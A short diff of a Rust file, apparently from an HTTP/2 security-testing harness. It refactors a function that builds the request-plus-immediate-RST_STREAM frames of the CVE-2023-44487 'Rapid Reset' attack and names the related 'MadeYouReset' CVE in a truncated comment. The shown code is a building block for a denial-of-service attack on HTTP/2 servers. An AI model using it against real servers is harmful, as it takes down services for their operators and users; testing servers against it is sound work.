@@ -11,8 +11,11 @@ pub type Attack = fn(round: u32, path: &str) -> Vec<u8>;
 /// CVE-2023-44487: a call that the client resets at once.
 pub fn rapid_reset(round: u32, path: &str) -> Vec<u8> {
     let stream = 2 * round + 1;
-    [call(path, stream, frame::END_STREAM), frame::bytes(frame::RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
-        .concat()
+    [
+        call(path, stream, frame::END_STREAM),
+        frame::bytes(frame::RST_STREAM, 0, stream, &frame::CANCEL.to_be_bytes()),
+    ]
+    .concat()
 }
 
 /// CVE-2025-8671, "MadeYouReset": a call followed by an error for which the server must reset the stream but
